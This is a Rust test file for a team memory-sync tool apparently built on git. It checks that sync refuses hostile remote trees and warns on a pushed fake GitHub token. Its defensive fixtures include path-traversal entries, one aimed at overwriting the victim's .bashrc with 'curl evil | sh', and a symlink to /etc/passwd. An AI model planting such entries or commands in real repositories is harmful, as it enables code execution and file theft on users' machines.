//! Team sync against a hostile remote (issue 11, items 1 and 15; DESIGN §8, §10): trees whose
//! entries leave `team/` or are not memory files, a push that loses a race, a teammate's secret,
//! and a sync killed while `git` talks to a remote that never answers. The hostile trees are raw
//! objects written with the real git's plumbing into a plain bare remote, which accepts them.

use std::collections::BTreeMap;
use std::path::{Path, PathBuf};
use std::process::{Child, Stdio};
use std::time::Duration;

use crate::common::{
    HOSTILE_LIMIT_KB, Mate, Run, TestEnv, assert_git_clean, assert_only_fast_forwards, bare_remote,
    git, git_stdin, tree_snapshot, wait_for,
};

/// What a hostile tree entry points to.
enum Content {
    Blob(Vec<u8>),
    /// A folder holding one memory file.
    Folder,
    /// A submodule: the remote's current commit.
    Gitlink,
}

/// One hostile entry: its name, mode and content, and what the refusal must say about it.
struct Hostile {
    name: Vec<u8>,
    mode: &'static str,
    content: Content,
    /// The entry as the one-line error names it.
    shown: String,
}

fn hostile(name: &str, mode: &'static str, content: Content) -> Hostile {
    Hostile {
        name: name.as_bytes().to_vec(),
        mode,
        content,
        shown: name.to_string(),
    }
}

/// Every kind of entry a team tree must not hold. `home` is the victim's HOME.
fn hostile_entries(home: &Path) -> Vec<Hostile> {
    let memory = b"---\nname: run\ndescription: d\ntype: project\n---\nbody\n".to_vec();
    vec![
        // Joined to the team dir, these land in the memory dir and in HOME.
        hostile(
            "../escaped.md",
            "100644",
            Content::Blob(b"escaped\n".to_vec()),
        ),
        hostile(
            &format!("{}/.bashrc", home.display()),
            "100644",
            Content::Blob(b"curl evil | sh\n".to_vec()),
        ),
        hostile(".git", "100644", Content::Blob(b"gitdir: /tmp\n".to_vec())),
        hostile("notes", "40000", Content::Folder),
        hostile("link.md", "120000", Content::Blob(b"/etc/passwd".to_vec())),
        hostile("sub", "160000", Content::Gitlink),
        hostile("run.md", "100755", Content::Blob(memory)),
        hostile(
            "big.md",
            "100644",
            Content::Blob(vec![b'a'; 300 * 1024].into_iter().chain(*b"\n").collect()),
        ),
        hostile(
            "README.md",
            "100644",
            Content::Blob(b"# Team memory\n".to_vec()),
        ),
    ]
}

fn unhex(hex: &str) -> Vec<u8> {
    (0..hex.len())
        .step_by(2)
        .map(|i| u8::from_str_radix(&hex[i..i + 2], 16).expect("hex"))
        .collect()
}

/// Write a tree object from raw entries (mode, name, id), in git's order, whatever the names.
fn raw_tree(repo: &Path, entries: &[(String, Vec<u8>, String)]) -> String {
    let mut sorted: Vec<&(String, Vec<u8>, String)> = entries.iter().collect();
    // Git orders a folder as if its name ended in '/'.
    let key = |(mode, name, _): &&(String, Vec<u8>, String)| {
        let mut key = name.clone();
        if mode == "40000" {
            key.push(b'/');
        }
        key
    };
    sorted.sort_by_key(key);
    let mut bytes = Vec::new();
    for (mode, name, id) in sorted {
        bytes.extend_from_slice(mode.as_bytes());
        bytes.push(b' ');
        bytes.extend_from_slice(name);
        bytes.push(0);
        bytes.extend_from_slice(&unhex(id));
    }
    git_stdin(
        repo,
        &["hash-object", "-t", "tree", "-w", "--literally", "--stdin"],
        &bytes,
    )
    .trim()
    .to_string()
}

/// The remote's branch (`refs/heads/…`).
fn branch(remote: &Path) -> String {
    git(remote, &["symbolic-ref", "HEAD"]).trim().to_string()
}

fn tip(repo: &Path) -> String {
    git(repo, &["rev-parse", "HEAD"]).trim().to_string()
}

/// Commit, on the remote's branch, its tree plus `entry`; the branch moves there.
fn push_hostile(remote: &Path, entry: &Hostile) -> String {
    let parent = tip(remote);
    let mut entries: Vec<(String, Vec<u8>, String)> = git(remote, &["ls-tree", "HEAD"])
        .lines()
        .map(|line| {
            let (meta, name) = line.split_once('\t').expect("ls-tree line");
            let mut fields = meta.split(' ');
            let mode = fields.next().expect("mode").to_string();
            let id = fields.nth(1).expect("id").to_string();
            (mode, name.as_bytes().to_vec(), id)
        })
        .collect();
    let id = match &entry.content {
        Content::Blob(bytes) => git_stdin(remote, &["hash-object", "-w", "--stdin"], bytes),
        Content::Folder => {
            let blob = git_stdin(remote, &["hash-object", "-w", "--stdin"], b"inside\n");
            raw_tree(
                remote,
                &[("100644".into(), b"x.md".to_vec(), blob.trim().into())],
            )
        }
        Content::Gitlink => parent.clone(),
    };
    entries.push((
        entry.mode.to_string(),
        entry.name.clone(),
        id.trim().to_string(),
    ));
    let tree = raw_tree(remote, &entries);
    let commit = git(
        remote,
        &["commit-tree", &tree, "-p", &parent, "-m", "hostile"],
    )
    .trim()
    .to_string();
    git(remote, &["update-ref", &branch(remote), &commit]);
    commit
}

/// Every file under the test's root but the team clone's `.git` (where a refused fetch may
/// leave objects and a remote-tracking ref): "nothing was written".
fn written(mate: &Mate) -> BTreeMap<PathBuf, Vec<u8>> {
    let git_dir = mate.team.join(".git");
    tree_snapshot(&mate.env.root)
        .into_iter()
        .filter(|(path, _)| !path.starts_with(&git_dir))
        .collect()
}

/// Each hostile entry, pushed on top of the remote's `main`, is refused by `me`'s sync as a
/// whole: exit 2, one line naming the entry and the commit, nothing written anywhere, the local
/// branch where it was, the clone sound. The remote is put back after each.
fn assert_each_hostile_tree_refused(remote: &Path, me: &Mate) {
    let good = tip(remote);
    std::fs::write(me.env.home.join(".bashrc"), "original\n").expect("bashrc");
    for entry in hostile_entries(&me.env.home) {
        let before = written(me);
        let head_before = tip(&me.team);
        let commit = push_hostile(remote, &entry);
        let run = me.env.run(&["team", "sync"]);
        let what = &entry.shown;
        assert_eq!(run.code, 2, "{what}: {}{}", run.stdout, run.stderr);
        assert_eq!(run.error_lines().len(), 1, "{what}: {}", run.stderr);
        assert!(run.stderr.starts_with("error: "), "{what}: {}", run.stderr);
        assert!(
            run.stderr.contains(what.as_str()) && run.stderr.contains(&commit[..12]),
            "{what} and {commit} not named: {}",
            run.stderr
        );
        assert_eq!(written(me), before, "{what}: something was written");
        assert_eq!(tip(&me.team), head_before, "{what}: the branch moved");
        assert_git_clean(&me.team);
        git(remote, &["update-ref", &branch(remote), &good]);
    }
    assert!(!me.env.home.join("escaped.md").exists());
    assert_eq!(
        std::fs::read_to_string(me.env.home.join(".bashrc")).expect("bashrc"),
        "original\n"
    );
}

/// A bare remote, a teammate who saved a memory there, and me, who joined after.
fn a_teammate_and_me() -> (TestEnv, PathBuf, Mate, Mate) {
    let root = TestEnv::new();
    let remote = bare_remote(&root.root);
    let mate = Mate::join(&remote).limited(HOSTILE_LIMIT_KB);
    mate.save("deploy-window", "Deploys happen Tuesday to Thursday only.");
    mate.sync();
    let me = Mate::join(&remote).limited(HOSTILE_LIMIT_KB);
    (root, remote, mate, me)
}

#[test]
fn a_hostile_tree_is_refused_whole_on_the_fast_forward_path() {
    let (_root, remote, _mate, me) = a_teammate_and_me();
    assert_each_hostile_tree_refused(&remote, &me);
    // The remote is sound again: sync goes on as if nothing happened.
    assert_eq!(me.sync()["integrated"], "up to date");
    assert!(me.files().contains_key("deploy-window.md"));
    assert_git_clean(&me.team);
}

#[test]
fn a_hostile_tree_is_refused_whole_on_the_merge_path() {
    let (_root, remote, mate, me) = a_teammate_and_me();
    // My own commit, not on the remote: every hostile tip has to be merged.
    me.save("oncall-channel", "Pages go to #payments-oncall.");
    assert_each_hostile_tree_refused(&remote, &me);
    let synced = me.sync();
    assert_eq!(synced["pushed"], true, "{synced}");
    mate.sync();
    assert!(mate.files().contains_key("oncall-channel.md"));
    // (The remote itself keeps the hostile objects, unreachable: its fsck would fail.)
    assert_git_clean(&me.team);
    assert_git_clean(&mate.team);
}

#[test]
fn a_folder_pushed_by_hand_is_refused_until_removed_and_never_wedges_sync() {
    let (_root, _remote, mate, me) = a_teammate_and_me();
    // A teammate commits a folder with plain git, as people do.
    std::fs::create_dir(mate.team.join("docs")).expect("docs");
    std::fs::write(mate.team.join("docs/guide.md"), "A guide.\n").expect("guide");
    git(&mate.team, &["add", "docs"]);
    git(&mate.team, &["commit", "-q", "-m", "docs"]);
    git(&mate.team, &["push", "-q", "origin", "HEAD"]);
    let bad = tip(&mate.team);
    me.save("oncall-channel", "Pages go to #payments-oncall.");
    let head_before = tip(&me.team);
    let run = me.env.fails(&["team", "sync"], 2, "\"docs\" (a folder)");
    assert_eq!(run.error_lines().len(), 1, "{}", run.stderr);
    assert!(run.stderr.contains(&bad[..12]), "{}", run.stderr);
    assert!(run.stderr.contains("remove it"), "{}", run.stderr);
    assert_eq!(tip(&me.team), head_before);
    assert!(!me.team.join("docs").exists());
    assert_git_clean(&me.team);
    // Fixed on the remote by a later commit: the folder stays in history, sync goes on.
    git(&mate.team, &["rm", "-q", "-r", "docs"]);
    git(&mate.team, &["commit", "-q", "-m", "no docs"]);
    git(&mate.team, &["push", "-q", "origin", "HEAD"]);
    let synced = me.sync();
    assert_eq!(synced["integrated"], "merged", "{synced}");
    assert_eq!(synced["pushed"], true, "{synced}");
    assert!(!me.team.join("docs").exists());
    assert!(me.files().contains_key("deploy-window.md"));
    mate.sync();
    assert_eq!(mate.files(), me.files());
    assert_git_clean(&me.team);
    assert_git_clean(&mate.team);
}

#[test]
fn joining_a_remote_whose_tree_is_not_memory_files_is_refused() {
    let (_root, remote, mate, _me) = a_teammate_and_me();
    let good = tip(&remote);
    std::fs::create_dir(mate.team.join("docs")).expect("docs");
    std::fs::write(mate.team.join("docs/guide.md"), "A guide.\n").expect("guide");
    git(&mate.team, &["add", "docs"]);
    git(&mate.team, &["commit", "-q", "-m", "docs"]);
    git(&mate.team, &["push", "-q", "origin", "HEAD"]);
    let mut newcomer = TestEnv::new();
    newcomer.limit_memory(HOSTILE_LIMIT_KB);
    let memory_dir = newcomer.memory_dir();
    let url = remote.to_str().expect("utf-8");
    let run = newcomer.fails(&["team", "init", "--remote", url], 2, "\"docs\" (a folder)");
    assert_eq!(run.error_lines().len(), 1, "{}", run.stderr);
    assert!(
        run.stderr.contains("memdir team init again"),
        "{}",
        run.stderr
    );
    assert!(!memory_dir.join("team").exists());
    // A path out of the team dir: git's own checks refuse the clone.
    git(&remote, &["update-ref", &branch(&remote), &good]);
    push_hostile(
        &remote,
        &hostile("../escaped.md", "100644", Content::Blob(b"x\n".to_vec())),
    );
    let run = newcomer.fails(&["team", "init", "--remote", url], 2, "git refuses");
    assert_eq!(run.error_lines().len(), 1, "{}", run.stderr);
    assert!(!memory_dir.join("team").exists());
    assert!(!memory_dir.join("escaped.md").exists());
    // Once the remote is sound, joining works.
    git(&remote, &["update-ref", &branch(&remote), &good]);
    newcomer.ok(&["team", "init", "--remote", url]);
    assert!(memory_dir.join("team/deploy-window.md").is_file());
    assert_git_clean(&memory_dir.join("team"));
}

#[test]
fn my_own_tree_is_held_to_the_same_rules_before_a_push() {
    let (_root, remote, mate, me) = a_teammate_and_me();
    let before = tip(&remote);
    // Committed by hand in my clone, past memdir: not a memory file.
    std::fs::write(me.team.join("README.md"), "# Team notes\n").expect("readme");
    git(&me.team, &["add", "README.md"]);
    git(&me.team, &["commit", "-q", "-m", "readme by hand"]);
    let run = me.env.fails(&["team", "sync"], 2, "\"README.md\"");
    assert!(run.stderr.contains("not a memory file"), "{}", run.stderr);
    assert_eq!(run.error_lines().len(), 1, "{}", run.stderr);
    assert!(run.stderr.contains("nothing was pushed"), "{}", run.stderr);
    assert_eq!(tip(&remote), before);
    // Removed, it no longer stands in the way; the teammates never see it.
    git(&me.team, &["rm", "-q", "README.md"]);
    git(&me.team, &["commit", "-q", "-m", "no readme"]);
    assert_eq!(me.sync()["pushed"], true);
    mate.sync();
    assert!(!mate.files().contains_key("README.md"));
    assert_git_clean(&me.team);
    assert_git_clean(&mate.team);
}

/// `memdir team sync` started in the background.
fn spawn_sync(mate: &Mate) -> Child {
    mate.env
        .command()
        .args(["team", "sync"])
        .stdin(Stdio::null())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .expect("memdir starts")
}

fn finish(child: Child) -> Run {
    let output = child.wait_with_output().expect("memdir ends");
    Run {
        code: output.status.code().unwrap_or(-1),
        stdout: String::from_utf8_lossy(&output.stdout).into_owned(),
        stderr: String::from_utf8_lossy(&output.stderr).into_owned(),
    }
}

#[test]
fn two_syncs_racing_to_push_both_succeed() {
    const ROUNDS: usize = 6;
    let (_root, remote, a, b) = a_teammate_and_me();
    for round in 0..ROUNDS {
        a.save(&format!("a-{round}"), &format!("From a, round {round}."));
        b.save(&format!("b-{round}"), &format!("From b, round {round}."));
        let (first, second) = (spawn_sync(&a), spawn_sync(&b));
        for (who, run) in [("a", finish(first)), ("b", finish(second))] {
            assert_eq!(
                run.code, 0,
                "round {round}, {who}: {}{}",
                run.stdout, run.stderr
            );
        }
    }
    a.sync();
    b.sync();
    let files = a.files();
    assert_eq!(files, b.files());
    for round in 0..ROUNDS {
        for who in ["a", "b"] {
            assert!(
                files.contains_key(&format!("{who}-{round}.md")),
                "{who}-{round} is missing: {:?}",
                files.keys()
            );
        }
    }
    assert_git_clean(&a.team);
    assert_git_clean(&b.team);
    git(&remote, &["fsck", "--strict"]);
    assert_only_fast_forwards(&remote);
}

/// A GitHub-shaped token made up for the test (the scanner knows the shape; no real one).
fn fake_token(seed: u64) -> String {
    const ALPHABET: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789";
    let mut state = seed;
    let body: String = (0..36)
        .map(|_| {
            state = state
                .wrapping_mul(6364136223846793005)
                .wrapping_add(1442695040888963407);
            ALPHABET[(state >> 33) as usize % ALPHABET.len()] as char
        })
        .collect();
    format!("ghp_{body}")
}

#[test]
fn a_secret_a_teammate_pushed_warns_and_my_work_keeps_flowing() {
    let (_root, remote, mate, me) = a_teammate_and_me();
    // The teammate commits a token with plain git (memdir would have refused it).
    let token = fake_token(11);
    std::fs::write(
        mate.team.join("ci-token.md"),
        format!(
            "---\nname: ci-token\ndescription: CI\ntype: reference\n---\nThe CI token: {token}\n"
        ),
    )
    .expect("write");
    let index = std::fs::read_to_string(mate.team.join("MEMORY.md")).expect("index");
    std::fs::write(
        mate.team.join("MEMORY.md"),
        format!("{index}- [CI token](ci-token.md) — the CI token\n"),
    )
    .expect("index");
    git(&mate.team, &["add", "-A"]);
    git(&mate.team, &["commit", "-q", "-m", "ci token"]);
    git(&mate.team, &["push", "-q", "origin", "HEAD"]);

    me.save("oncall-channel", "Pages go to #payments-oncall.");
    let run = me.env.ok(&["team", "sync"]);
    assert!(
        run.stderr.contains("warning:")
            && run.stderr.contains("ci-token.md:6")
            && run.stderr.contains("a GitHub token"),
        "{}",
        run.stderr
    );
    assert!(
        !run.stderr.contains(&token),
        "the secret was shown: {}",
        run.stderr
    );
    assert!(run.stdout.contains("pushed"), "{}", run.stdout);
    assert!(git(&remote, &["ls-tree", "HEAD"]).contains("oncall-channel.md"));
    // Later syncs of clean work go on, mine and the teammate's.
    me.save("release-owner", "Priya owns the release train.");
    assert_eq!(me.sync()["pushed"], true);
    mate.save("style-guide", "The style guide is in the wiki.");
    assert_eq!(mate.sync()["pushed"], true);
    assert_eq!(me.sync()["integrated"], "fast-forward");
    // review flags the teammate's secret in team memory.
    let review = me.env.ok(&["review", "--json"]).stdout;
    assert!(
        review.contains("ci-token") && review.contains("secret"),
        "{review}"
    );
    assert!(!review.contains(&token), "review showed the secret");
    // A secret in my own new memory is still refused, and nothing is pushed.
    let remote_before = tip(&remote);
    std::fs::write(
        me.team.join("my-token.md"),
        format!(
            "---\nname: my-token\ndescription: mine\ntype: reference\n---\nMine: {}\n",
            fake_token(12)
        ),
    )
    .expect("write");
    let run = me
        .env
        .fails(&["team", "sync"], 2, "team memory holds a secret");
    assert!(run.stderr.contains("my-token.md:6"), "{}", run.stderr);
    assert!(!run.stderr.contains("ci-token.md"), "{}", run.stderr);
    assert_eq!(tip(&remote), remote_before);
    std::fs::remove_file(me.team.join("my-token.md")).expect("remove");
    assert_git_clean(&me.team);
    assert_git_clean(&mate.team);
}

/// A stand-in for ssh that records its pid, its parent's and grandparent's (git, or the shell
/// git started it with, and memdir), then never answers.
fn hanging_ssh(root: &Path) -> (PathBuf, PathBuf) {
    let pids = root.join("ssh.pids");
    let script = root.join("fake-ssh");
    std::fs::write(
        &script,
        format!(
            "#!/bin/sh\nparent=$(cut -d' ' -f4 /proc/$PPID/stat)\necho \"$$ $PPID $parent\" > '{}'\nexec sleep 600\n",
            pids.display()
        ),
    )
    .expect("script");
    std::process::Command::new("chmod")
        .args(["+x"])
        .arg(&script)
        .status()
        .expect("chmod");
    (script, pids)
}

/// Whether a process is running (a zombie nobody reaped yet is not).
fn alive(pid: &str) -> bool {
    std::fs::read_to_string(format!("/proc/{pid}/stat"))
        .ok()
        .and_then(|stat| {
            let state = stat.rsplit_once(") ")?.1.chars().next()?;
            Some(!matches!(state, 'Z' | 'X'))
        })
        .unwrap_or(false)
}

/// A teammate whose remote is `ssh://` through `ssh`, and that ssh's pid file.
fn behind_a_hanging_remote() -> (TestEnv, Mate, PathBuf) {
    let root = TestEnv::new();
    let remote = bare_remote(&root.root);
    let mut mate = Mate::join(&remote).limited(HOSTILE_LIMIT_KB);
    let (ssh, pids) = hanging_ssh(&root.root);
    git(
        &mate.team,
        &[
            "config",
            "remote.origin.url",
            "ssh://team.invalid/memory.git",
        ],
    );
    mate.env
        .set_var("GIT_SSH_COMMAND", ssh.to_str().expect("utf-8"));
    (root, mate, pids)
}

#[test]
fn a_killed_sync_leaves_no_git_behind() {
    for signal in ["KILL", "TERM"] {
        let (_root, mate, pids) = behind_a_hanging_remote();
        let mut sync = spawn_sync(&mate);
        wait_for("ssh never started", Duration::from_secs(30), || {
            std::fs::read_to_string(&pids).is_ok_and(|p| p.ends_with('\n'))
        });
        let recorded = std::fs::read_to_string(&pids).expect("pids");
        let started: Vec<&str> = recorded.split_whitespace().collect();
        assert!(started.iter().all(|pid| alive(pid)), "{recorded}");
        let status = std::process::Command::new("kill")
            .arg(format!("-{signal}"))
            .arg(sync.id().to_string())
            .status()
            .expect("kill");
        assert!(status.success());
        let _ = sync.wait();
        wait_for(
            &format!("git and ssh outlived memdir killed by SIG{signal}"),
            Duration::from_secs(10),
            || started.iter().all(|pid| !alive(pid)),
        );
        assert_git_clean(&mate.team);
    }
}

#[test]
fn a_remote_that_never_answers_is_given_up_on() {
    let (_root, mut mate, pids) = behind_a_hanging_remote();
    mate.env.set_var("MEMDIR_GIT_TIMEOUT", "2");
    let mut sync = Some(spawn_sync(&mate));
    let mut run = None;
    wait_for("sync hung", Duration::from_secs(60), || {
        if let Some(child) = sync.as_mut()
            && child.try_wait().expect("try_wait").is_some()
        {
            run = sync.take().map(finish);
        }
        run.is_some()
    });
    let run = run.expect("sync ended");
    assert_eq!(run.code, 1, "{}{}", run.stdout, run.stderr);
    assert_eq!(run.error_lines().len(), 1, "{}", run.stderr);
    assert!(run.stderr.contains("2 s"), "{}", run.stderr);
    let recorded = std::fs::read_to_string(&pids).expect("pids");
    for pid in recorded.split_whitespace() {
        wait_for(
            "ssh outlived the time limit",
            Duration::from_secs(10),
            || !alive(pid),
        );
    }
    assert_git_clean(&mate.team);
}
